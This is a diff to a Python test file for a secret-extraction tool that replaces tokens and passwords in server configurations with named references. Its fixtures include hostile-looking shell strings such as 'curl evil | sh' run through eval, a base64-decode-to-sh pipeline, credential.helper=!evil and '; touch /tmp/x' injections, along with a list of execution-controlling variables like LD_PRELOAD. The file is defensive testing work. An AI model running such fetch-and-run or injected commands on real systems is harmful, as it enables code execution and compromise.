@@ -6,6 +6,7 @@ import copy
 import string
 import time
 from collections.abc import Iterator
+from contextlib import suppress
 from typing import Any
 
 import pytest
@@ -14,7 +15,16 @@ from hypothesis import strategies as st
 
 from roundhouse.errors import BadConfiguration
 from roundhouse.vault import shapes
-from roundhouse.vault.literals import MOST, SWEPT, extract
+from roundhouse.vault.literals import (
+    LONGEST_LITERAL,
+    MOST,
+    MOST_ARGS,
+    MOST_HEADERS,
+    MOST_TEXT,
+    MOST_VARIABLES,
+    SWEPT,
+    extract,
+)
 from roundhouse.vault.references import Kind, fill, parse, references, texts
 from roundhouse.vault.secret import Secret, check_name
 from tests.vault.canaries import canaries
@@ -151,7 +161,7 @@ def test_flags_headers_and_assignments_in_arguments_keep_their_frame() -> None:
                 *(
                     "-e",
                     "GITHUB_TOKEN=four",
-                    "--env=DB_PASSWORD=five six",
+                    "--env=DB_PASSWORD=five6",
                     "-H",
                     "X-Api-Key:seven",
                     "--no-auth",
@@ -178,7 +188,7 @@ def test_flags_headers_and_assignments_in_arguments_keep_their_frame() -> None:
         ),
         *("--auth-provider", "stays", "--token", "--verbose", "--port=8080", "--max-tokens", "4096"),
     ]
-    assert list(secrets.values()) == ["one", "two", "three", "four", "five six", "seven"]
+    assert list(secrets.values()) == ["one", "two", "three", "four", "five6", "seven"]
 
 
 def test_passwords_in_addresses_and_connection_strings_are_taken_alone() -> None:
@@ -212,33 +222,36 @@ def test_passwords_in_addresses_and_connection_strings_are_taken_alone() -> None
 
 
 def test_the_default_in_a_shells_variable_is_taken_alone() -> None:
-    new, secrets = taken("srv", {"args": ["${API_KEY:-hunter2}"]})
-    assert new == {"args": ["${API_KEY:-${secret:SRV_API_KEY}}"]}
+    new, secrets = taken("srv", {"env": {"OPTIONS": "${API_KEY:-hunter2}"}})
+    assert new == {"env": {"OPTIONS": "${API_KEY:-${secret:SRV_API_KEY}}"}}
     assert secrets == {"SRV_API_KEY": "hunter2"}
 
 
-def test_members_of_json_in_a_text_are_taken_by_their_names() -> None:
+def test_members_of_json_in_a_variable_are_taken_by_their_names() -> None:
     new, secrets = taken(
         "exa",
         {
-            "args": ["--config", '{"auth": {"exaApiKey":"one","retries":3}}', '"{\\"token\\": \\"two\\"}"'],
             "env": {
-                "HEADERS": '{"Authorization": "Bearer three", "Notion-Version": "2022-06-28", "Secret": "fo\\"ur"}'
-            },
+                "CONFIG": '{"auth": {"exaApiKey":"one","retries":3}}',
+                "QUOTED": '"{\\"token\\": \\"two\\"}"',
+                "HEADERS": '{"Authorization": "Bearer three", "Notion-Version": "2022-06-28", "Secret": "fo\\"ur"}',
+            }
         },
     )
-    assert new["args"] == [
-        *(
-            "--config",
-            '{"auth": {"exaApiKey":"${secret:EXA_API_KEY}","retries":3}}',
-            '"{\\"token\\": \\"${secret:EXA_TOKEN}\\"}"',
-        )
-    ]
     assert new["env"] == {
+        "CONFIG": '{"auth": {"exaApiKey":"${secret:EXA_API_KEY}","retries":3}}',
+        "QUOTED": '"{\\"token\\": \\"${secret:EXA_TOKEN}\\"}"',
         "HEADERS": '{"Authorization": "Bearer ${secret:EXA_AUTHORIZATION}", "Notion-Version": "2022-06-28", '
-        '"Secret": "${secret:EXA_SECRET}"}'
+        '"Secret": "${secret:EXA_SECRET}"}',
     }
     assert list(secrets.values()) == ["one", "two", "three", 'fo\\"ur']
+
+
+@pytest.mark.parametrize("name", ["Pwd", "Password", "PWD"])
+def test_a_password_in_a_connection_string_is_taken_under_any_of_its_names(name: str) -> None:
+    new, secrets = taken("shop", {"env": {"DB": f"Server=db;User Id=sa;{name}=hunter2;", "PWD": "/home/u"}})
+    assert new["env"] == {"DB": f"Server=db;User Id=sa;{name}=${{secret:SHOP_PASSWORD}};", "PWD": "/home/u"}
+    assert secrets == {"SHOP_PASSWORD": "hunter2"}
 
 
 def test_headers_keep_the_scheme() -> None:
@@ -280,16 +293,41 @@ KNOWN = [
 
 @pytest.mark.parametrize("value", KNOWN)
 def test_what_an_issuer_marked_is_taken_wherever_it_stands(value: str) -> None:
-    for text in (
-        value,
-        f"--x={value}",
-        f"before {value} after",
-        f'{{"x": "{value}"}}',
-        f"https://h.example/p/{value}/mcp",
-    ):
-        for entry in ({"args": [text]}, {"env": {"X": text}}, {"headers": {"X": text}}):
+    for text in (value, f"--x={value}", f"before {value} after", f'{{"x": "{value}"}}', f"https://h.example/{value}/x"):
+        for entry in ({"env": {"X": text}}, {"headers": {"X": text}}):
             _, secrets = taken("srv", entry)
             assert list(secrets.values()) == [value]
+    if "\n" not in value:
+        for text in (value, f"--x={value}", f"X={value}", f"X-Header: {value}", f"https://h.example/mcp?x={value}&y=1"):
+            new, secrets = taken("srv", {"args": [text]})
+            assert list(secrets.values()) == [value]
+            ((name, _),) = secrets.items()
+            assert new["args"] == [text.replace(value, f"${{secret:{name}}}")]
+
+
+@pytest.mark.parametrize("value", KNOWN)
+def test_what_an_issuer_marked_inside_other_text_of_an_argument_is_refused_with_its_place(value: str) -> None:
+    for text in (f"before {value} after", f'{{"x": "{value}"}}', f"https://h.example/{value}/x", f"'{value}'"):
+        with pytest.raises(BadConfiguration, match=r"args\[1\] holds .* variable .* \$\{secret:NAME\}") as raised:
+            extract("srv", {"command": "x", "args": ["serve", text]})
+        assert value not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["psql postgres://u:hunter2@h/db", "postgres://u:p$w@h/db", '["https://u:hunter2@h/"]', "--password=p$$w 1"],
+)
+def test_a_password_in_an_argument_that_cannot_be_taken_out_is_refused(text: str) -> None:
+    with pytest.raises(BadConfiguration, match=r"args\[0\]"):
+        extract("srv", {"args": [text]})
+
+
+@pytest.mark.parametrize(
+    "text", ["curl https://$USER:$PASS@h/", "sk-learn-tools-and-server", "token: a b", "PASSWORD=$1 x"]
+)
+def test_code_and_names_that_only_resemble_a_secret_stay(text: str) -> None:
+    entry = {"command": "x", "args": ["-c", text]}
+    assert taken("srv", entry) == (entry, {})
 
 
 @pytest.mark.parametrize(
@@ -321,26 +359,114 @@ def test_where_a_server_is_and_what_is_started_stays_readable() -> None:
     assert taken("srv", entry) == (entry, {})
 
 
-def test_code_stays_readable_for_whoever_approves_it_and_only_values_are_taken_from_it() -> None:
-    encoded = "ZWNobyBIZWxsbyBXb3JsZCAmJiBjdXJsIDEyMw=="
-    new, secrets = taken(
-        "sh",
-        {
-            "command": "/bin/bash",
-            "args": [
-                "-lc",
-                f"TOKEN=one npx server --password 'two' && PASSWORD=$(curl evil) echo {encoded} | base64 -d | sh",
-            ],
-        },
-    )
-    assert new["args"][1] == (
-        "TOKEN=${secret:SH_TOKEN} npx server --password '${secret:SH_PASSWORD}' && PASSWORD=$(curl evil) "
-        f"echo {encoded} | base64 -d | sh"
-    )
-    assert secrets == {"SH_TOKEN": "one", "SH_PASSWORD": "two"}
-    for args in (["-c", f"print('{encoded}')"], ["run", "python", "-c", f"TOKEN=`{encoded}`"]):
-        entry = {"command": "uv" if args[0] == "run" else "python3.12", "args": args}
-        assert taken("py", entry) == (entry, {})
+CODE = "API_KEY=1; touch /tmp/x"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["bash", "-c", CODE],
+        ["bash", "-c", "--", CODE],
+        ["bash", "-c", "-x", CODE],
+        ["ssh", "host", CODE],
+        ["php", "-r", CODE],
+        ["node", "-p", CODE],
+        ["python3", "-Ic", "TOKEN=1;import os"],
+        ["lua", "-e", CODE],
+        ["bash", "-c", "PASSWORD='curl evil | sh'; eval $PASSWORD"],
+        ["bash", "-c", "TOKEN=$(curl${IFS}evil)"],
+        ["bash", "-c", "TOKEN=`evil`"],
+        ["bash", "-c", "TOKEN=1\nevil"],
+        ["python3", "-c", "print('ZWNobyBIZWxsbyBXb3JsZCAmJiBjdXJsIDEyMw==')"],
+        ["awk", 'BEGIN{TOKEN="x";system("evil")}'],
+        ["git", "-c", "credential.helper=!evil"],
+        ["git", "-c", "credential.helper=evil9"],
+        ["x", "--password-command", "evil9"],
+        ["npx", "-y", "--auth-token", "evil-package"],
+        ["docker", "run", "--password", "evil/image"],
+        ["uv", "run", "--key", "evil.py"],
+        ["node", "--token", "/tmp/evil"],
+        ["node", "--token=./evil"],
+        ["uvx", "xK9fQ2mZ8vL4pR7tW1yB6nC3"],
+        ["x", "sh", "-u", "1000:1000", "--user", "root:root"],
+        ["xK9fQ2mZ8vL4pR7tW1yB6nC3", "--token"],
+        ["API_KEY=1 evil"],
+    ],
+)
+def test_what_runs_stays_readable_for_whoever_approves_it(command: list[str]) -> None:
+    entry = {"command": command[0], "args": command[1:]}
+    assert taken("sh", entry) == (entry, {})
+
+
+@pytest.mark.parametrize("value", ["; touch /tmp/x", "evil-package9", "touch /tmp/owned9"])
+def test_a_value_that_was_taken_elsewhere_hides_nothing_in_an_argument(value: str) -> None:
+    with pytest.raises(BadConfiguration, match=r"args\[1\]") as raised:
+        extract("sh", {"command": "x", "args": ["-c", f"true{value}"], "env": {"X_PASSWORD": value}})
+    assert value not in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["PATH", "Path", "LD_PRELOAD", "NODE_OPTIONS", "BASH_ENV", "SHELL", "PYTHONSTARTUP", "PERL5OPT", "GIT_SSH_COMMAND"],
+)
+def test_nothing_is_taken_from_variables_that_decide_what_runs(name: str) -> None:
+    entry = {"env": {name: "xK9fQ2mZ8vL4pR7tW1yB6nC3 https://u:hunter2@h/?token=a"}}
+    assert taken("srv", entry) == (entry, {})
+
+
+def test_a_password_for_an_index_is_taken_and_the_index_stays_readable() -> None:
+    url = "https://{}@pypi.example/ghp_0123456789abcdefghijABCDEFGHIJ012345?token=x"
+    new, secrets = taken("srv", {"env": {"UV_INDEX_URL": url.format("me:hunter2")}})
+    assert new["env"] == {"UV_INDEX_URL": url.format("me:${secret:SRV_UV_INDEX_URL}")}
+    assert secrets == {"SRV_UV_INDEX_URL": "hunter2"}
+
+
+@pytest.mark.parametrize(
+    "flags", [["-u", "admin:hunter2Xq"], ["--user=admin:hunter2Xq"], ["--user", "admin:hunter2Xq"]]
+)
+def test_the_password_of_a_user_is_taken_as_curl_has_it(flags: list[str]) -> None:
+    new, secrets = taken("srv", {"command": "x", "args": flags})
+    assert new["args"][-1] == flags[-1].replace("hunter2Xq", "${secret:SRV_PASSWORD}")
+    assert secrets == {"SRV_PASSWORD": "hunter2Xq"}
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("MNEMONIC", "legal winner thank year wave sausage"),
+        ("SEED_PHRASE", "legal winner thank year wave sausage"),
+        ("SIM_PIN", "483920"),
+        ("APP_PW", "abcd efgh"),
+        ("WIFI_PSK", "1234"),
+        ("SUPABASE_SERVICE_ROLE", "abc"),
+        ("SERVICE_ROLE_KEY", "abc"),
+        ("TG_API_HASH", "abc"),
+        ("LICENSE_KEY", "abc"),
+        ("CRED", "abc"),
+        ("CREDS", "abc"),
+        ("OPENAI", "9f8c1b7e44d2a6035e9b7711aa00ff31"),
+        ("WALLET", "0x" + "9f8c1b7e44d2a6035e9b7711aa00ff31" * 2),
+    ],
+)
+def test_less_usual_secrets_are_taken_whole_too(name: str, value: str) -> None:
+    new, secrets = taken("srv", {"env": {name: value}})
+    assert list(secrets.values()) == [value]
+    assert new["env"][name].startswith("${secret:")
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("LED_PIN", "13"),
+        ("COMMIT_SHA", "9f8c1b7e44d2a6035e9b7711aa00ff3112345678"),
+        ("TRACE_ID", "9f8c1b7e44d2a6035e9b7711aa00ff31"),
+        ("SERVICE_ROLE_NAME", "reader"),
+        ("ZERO", "0" * 32),
+    ],
+)
+def test_numbers_and_digests_that_are_no_secrets_stay(name: str, value: str) -> None:
+    entry = {"env": {name: value}}
+    assert taken("srv", entry) == (entry, {})
 
 
 # -- names
@@ -379,13 +505,13 @@ def test_names_that_are_in_use_are_not_given_again() -> None:
 
 
 def test_a_value_that_was_taken_is_taken_wherever_else_it_stands() -> None:
-    new, secrets = taken("srv", {"args": ["connect", "me:hunter2hunter2@host"], "env": {"PASSWORD": "hunter2hunter2"}})
-    assert new["args"] == ["connect", "me:${secret:SRV_PASSWORD}@host"]
+    new, secrets = taken("srv", {"env": {"PASSWORD": "hunter2hunter2", "LOGIN": "me:hunter2hunter2@host"}})
+    assert new["env"]["LOGIN"] == "me:${secret:SRV_PASSWORD}@host"
     assert secrets == {"SRV_PASSWORD": "hunter2hunter2"}
 
 
 def test_what_no_secret_can_hold_stays_where_it_is() -> None:
-    entry = {"env": {"TOKEN": "a\0b", "KEY": "x" * 70_000, "PASSWORD": "\ud800"}}
+    entry = {"env": {"TOKEN": "a\0b", "PASSWORD": "\ud800"}}
     assert extract("srv", entry) == (entry, {})
 
 
@@ -422,18 +548,30 @@ ENTRIES = st.fixed_dictionaries(
 )
 
 
+def is_refused(entry: Entry) -> bool:
+    """Whether an argument holds a secret that cannot be taken out."""
+    try:
+        extract("srv", entry)
+    except BadConfiguration as bad:
+        assert str(bad).startswith("args[")  # noqa: PT017  # which it is about
+        return True
+    return False
+
+
 @settings(max_examples=400, deadline=None)
 @given(ENTRIES)
 def test_filling_the_new_entry_gives_the_old_one_and_doing_it_again_changes_nothing(entry: Entry) -> None:
-    assume(not references(entry, passed_on={"HOME"}).problems)
+    assume(not references(entry, passed_on={"HOME"}).problems and not is_refused(entry))
     taken("srv", entry)
 
 
 @settings(max_examples=400, deadline=None)
 @given(ENTRIES)
 def test_no_value_that_was_taken_is_left_anywhere(entry: Entry) -> None:
+    assume(not is_refused(entry))
     new, secrets = extract("srv", entry)
-    left = "\0".join(literal_texts({key: value for key, value in new.items() if key != "url"}))
+    readable = {"env": {name: text for name, text in new.get("env", {}).items() if name != "PATH"}}
+    left = "\0".join(literal_texts({**new, **readable, "url": ""}))
     for value in (secret.reveal() for secret in secrets.values()):
         assert len(value) < SWEPT or shapes.is_word(value) or value not in left
 
@@ -441,6 +579,7 @@ def test_no_value_that_was_taken_is_left_anywhere(entry: Entry) -> None:
 @settings(max_examples=200, deadline=None)
 @given(ENTRIES)
 def test_an_entry_with_miswritten_references_is_read_without_an_error(entry: Entry) -> None:
+    assume(not is_refused(entry))
     new, secrets = extract("srv", entry)
     assert extract("srv", new) == (new, {})
     try:
@@ -454,7 +593,9 @@ def test_an_entry_with_miswritten_references_is_read_without_an_error(entry: Ent
 @given(st.sampled_from(sorted(canaries().values())), TEXTS, TEXTS)
 def test_a_secret_under_its_name_is_taken_whatever_stands_beside_it(canary: str, before: str, after: str) -> None:
     assume("${" not in before + after)
-    new, _ = extract("srv", {"env": {"API_TOKEN": canary, "X": before}, "args": [after]})
+    entry = {"env": {"API_TOKEN": canary, "X": before}, "args": [after]}
+    assume(not is_refused(entry))
+    new, _ = extract("srv", entry)
     assert all(canary not in text for text in literal_texts({"env": {"API_TOKEN": new["env"]["API_TOKEN"]}}))
 
 
@@ -477,20 +618,58 @@ def test_a_secret_under_its_name_is_taken_whatever_stands_beside_it(canary: str,
     ],
 )
 def test_long_and_hostile_entries_are_read_in_linear_time(piece: str) -> None:
-    begun = time.process_time()
-    extract("srv", {"args": [piece * (100_000 // len(piece))], "env": {"X": f"token:{piece * 10}"}})
-    assert time.process_time() - begun < 4  # a quadratic search takes twice that and more
+    text = piece * (15_000 // len(piece))
+    for entry in (
+        {"args": [text]},
+        {"env": {"X": text, "Y": text}},
+        {"env": {"X_TOKEN": text}},
+        {"headers": {"X": text}},
+    ):
+        begun = time.process_time()
+        with suppress(BadConfiguration):
+            extract("srv", entry)
+        assert time.process_time() - begun < 0.5  # measured 0.1; a quadratic search takes ten times that
 
 
-def test_entries_that_only_keep_us_busy_are_refused_or_done_soon() -> None:
+QUOTES = "\"'\\%$<&" * 4300
+
+
+@pytest.mark.parametrize(
+    ("entry", "said"),
+    [
+        (
+            {"args": [f"token=abcdefgh{number}xyz" for number in range(600)]},
+            f"args has 600 members; at most {MOST_ARGS}",
+        ),
+        ({"args": ["-c"] * 6000}, "args has 6,000 members"),
+        ({"env": {f"X{number}": "" for number in range(MOST_VARIABLES + 1)}}, "env has 251 members"),
+        ({"headers": {f"X{number}": "" for number in range(MOST_HEADERS + 1)}}, "headers has 101 members"),
+        ({"env": {"X": "x" * MOST_TEXT}}, f"at most {MOST_TEXT:,}"),
+        ({"env": {"x" * MOST_TEXT: "x"}}, f"at most {MOST_TEXT:,}"),
+        ({"command": "x" * (MOST_TEXT + 1)}, f"at most {MOST_TEXT:,}"),
+        ({"env": {"X_PASSWORD": QUOTES}}, f"a literal secret may have {LONGEST_LITERAL:,}"),
+        (
+            {
+                "env": {f"TOKEN_{number}": f"value-{number}" for number in range(MOST_VARIABLES)},
+                "headers": {"Authorization": "one more"},
+            },
+            f"more than {MOST}",
+        ),
+    ],
+)
+def test_entries_that_only_keep_us_busy_are_refused_soon(entry: Entry, said: str) -> None:
     begun = time.process_time()
-    with pytest.raises(BadConfiguration, match=f"more than {MOST}"):
-        extract("srv", {"args": [f"--token=value-{number}" for number in range(MOST + 1)]})
-    many = {"command": "sh", "args": ["-c", "--token=hunter2hunter2"] * 10_000}
-    new, secrets = extract("srv", many)
-    assert new["args"] == ["-c", "--token=${secret:SRV_TOKEN}"] * 10_000
-    assert len(secrets) == 1
-    assert time.process_time() - begun < 10
+    with pytest.raises(BadConfiguration, match=said) as raised:
+        extract("srv", entry)
+    assert time.process_time() - begun < 0.2  # measured 0.03 and less
+    assert "file" in str(raised.value)
+
+
+def test_as_many_literals_as_there_may_be_are_taken_soon() -> None:
+    begun = time.process_time()
+    _, secrets = extract("srv", {"args": [f"token=abcdefgh{number}xyz" for number in range(MOST_ARGS)]})
+    assert time.process_time() - begun < 0.3  # measured 0.05
+    assert len(secrets) == MOST_ARGS
 
 
 def test_the_secrets_that_come_out_do_not_show_themselves() -> None:
